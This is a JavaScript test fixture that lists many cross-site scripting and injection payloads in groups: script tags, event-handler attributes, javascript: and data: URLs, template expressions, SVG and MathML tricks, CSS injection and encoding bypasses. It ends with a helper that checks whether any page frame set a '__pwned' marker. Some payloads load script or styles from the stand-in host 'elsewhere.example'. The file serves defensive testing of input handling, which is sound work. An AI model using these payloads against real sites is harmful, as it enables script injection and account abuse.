// What would run, call out or change the page if anything took a name for markup, an address or a template (G4).
// Whatever of it ran would set `__pwned`, open a dialog, or ask for something on another host.

const ELSEWHERE = "//elsewhere.example";

const tags = [
  "<script>__pwned=1</script>",
  "<ScRiPt>__pwned=2</sCrIpT>",
  "<script src=//elsewhere.example>",
  `<script src="${ELSEWHERE}/a.js"></script>`,
  "<script/x>__pwned=3</script>",
  "<script\n>__pwned=4</script>",
  "<scr<script>ipt>__pwned=5</script>",
  "</script><script>__pwned=6</script>",
  "</textarea><script>__pwned=7</script>",
  "</title><script>__pwned=8</script>",
  "<!--><script>__pwned=9</script>-->",
  "<script type=module>__pwned=10</script>",
  "<noscript><p title=\"</noscript><script>__pwned=11</script>\">",
  "<iframe srcdoc='<script>parent.__pwned=12</script>'>",
  "<iframe src=javascript:parent.__pwned=13>",
  "<object data=javascript:__pwned=14>",
  "<embed src=javascript:__pwned=15>",
  "<base href=//elsewhere.example/>",
  "<meta http-equiv=refresh content=0;url=//elsewhere.example>",
  `<link rel=stylesheet href=${ELSEWHERE}/a.css>`,
  "<form action=//elsewhere.example><button>领取</button></form>",
  "<template><script>__pwned=16</script></template>",
  "<plaintext>",
  "<xmp><script>__pwned=17</script></xmp>",
];

const attributes = [
  "<img src=x onerror=__pwned=20>",
  "<img src=x onerror=alert(1)>",
  "<img/src/onerror=__pwned=21>",
  "<img src='x'onerror='__pwned=22'>",
  "<image src=x onerror=__pwned=23>",
  "<img src=//elsewhere.example/a>",
  "<img srcset='//elsewhere.example/a 1x'>",
  "<body onload=__pwned=24>",
  "<input autofocus onfocus=__pwned=25>",
  "<select autofocus onfocus=__pwned=26>",
  "<textarea autofocus onfocus=__pwned=27>",
  "<details open ontoggle=__pwned=28>",
  "<video><source onerror=__pwned=29>",
  "<audio src=x onerror=__pwned=30>",
  "<video poster=//elsewhere.example/p>",
  "<marquee onstart=__pwned=31>券</marquee>",
  "<div onpointerover=__pwned=32>券</div>",
  "<a onmouseover=__pwned=33>券</a>",
  "<b style=animation-name:x onanimationstart=__pwned=34>",
  "<p tabindex=0 onfocus=__pwned=35 autofocus>",
  "\" onfocus=__pwned=36 autofocus x=\"",
  "' onfocus=__pwned=37 autofocus x='",
  "\"><img src=x onerror=__pwned=38>",
  "'><img src=x onerror=__pwned=39>",
  "` onmouseover=__pwned=40 `",
  "x onerror=__pwned=41 ",
  "\" src=\"//elsewhere.example/b",
  "<img alt=`><img src=x onerror=__pwned=42>",
];

const addresses = [
  "javascript:__pwned=50",
  "JaVaScRiPt:__pwned=51",
  "java&#x0A;script:__pwned=52",
  "&#106;avascript:__pwned=53",
  "javascript://%0A__pwned=54",
  "data:text/html,<script>parent.__pwned=55</script>",
  "data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19wd25lZD01Njwvc2NyaXB0Pg==",
  "vbscript:__pwned=57",
  "<a href=javascript:__pwned=58>点这里</a>",
  "<a href='data:text/html,<script>__pwned=59</script>'>点</a>",
  "//elsewhere.example/c",
  "https://elsewhere.example/领券",
  "../../../../v1/member/leave",
  "?to=//elsewhere.example",
  "#/javascript:__pwned=60",
  "%3Cscript%3E__pwned=61%3C/script%3E",
];

const templates = [
  "{{__pwned=70}}",
  "{{constructor.constructor('__pwned=71')()}}",
  "{{$el.ownerDocument.defaultView.__pwned=72}}",
  "${__pwned=73}",
  "#{__pwned=74}",
  "<%= __pwned=75 %>",
  "[[__pwned=76]]",
  "{{#with this}}{{__pwned=77}}{{/with}}",
  "<p v-html=\"'<img src=x onerror=__pwned=78>'\">",
  "<b @click=\"__pwned=79\" v-on:vnode-mounted=\"__pwned=79\">",
  "<view wx:if=\"{{__pwned=80}}\">",
  "<slot name=x>{{__pwned=81}}</slot>",
  "__proto__",
  "constructor",
];

const pictures = [
  "<svg onload=__pwned=90>",
  "<svg/onload=__pwned=91>",
  "<svg><script>__pwned=92</script></svg>",
  "<svg><animate onbegin=__pwned=93 attributeName=x>",
  "<svg><set attributeName=href to=javascript:__pwned=94>",
  "<svg><a xlink:href=javascript:__pwned=95><text y=9>券",
  "<svg><use href=//elsewhere.example/s#x>",
  "<svg><foreignObject><img src=x onerror=__pwned=96>",
  "<svg><style><img src=x onerror=__pwned=97></style>",
  "<math href=javascript:__pwned=98>券</math>",
  "<math><mtext><table><mglyph><style><img src=x onerror=__pwned=99>",
  "<math><annotation-xml encoding=text/html><img src=x onerror=__pwned=100>",
];

const styles = [
  "<style>*{display:none}</style>",
  "<style>@import'//elsewhere.example'</style>",
  "<p style=background:url(//elsewhere.example/d)>",
  "<p style=position:fixed;inset:0>",
  "</style><img src=x onerror=__pwned=110>",
  "red;background:url(//elsewhere.example/e)",
  "expression(__pwned=111)",
  "#fff}body{display:none",
];

const letters = [
  "＜script＞__pwned=120＜/script＞",
  "<ſcript>__pwned=121</ſcript>",
  "\\u003cscript\\u003e__pwned=122",
  "\\x3cimg src=x onerror=__pwned=123>",
  "&lt;img src=x onerror=__pwned=124&gt;",
  "&amp;lt;script&amp;gt;",
  "&#60;img src=x onerror=__pwned=125&#62;",
  "<img src=x onerror=&#95;&#95;pwned=126>",
  "%253Cscript%253E",
  "+ADw-script+AD4-__pwned=127",
  "𝓼𝓬𝓻𝓲𝓹𝓽<img src=x onerror=__pwned=128>",
  "\u202E>tpircs<\u202C",
  "<img src=x onerror=__pwned=129\u200B>",
  "]]><img src=x onerror=__pwned=130>",
];

export const HOSTILE = [...tags, ...attributes, ...addresses, ...templates, ...pictures, ...styles, ...letters];

/** Whether anything in the page or its frames did what one of them says. */
export async function harmOf(page) {
  const told = await Promise.all(page.frames().map((frame) => frame.evaluate(() => String(window.__pwned)).catch(() => "undefined")));
  return told.filter((word) => word !== "undefined");
}
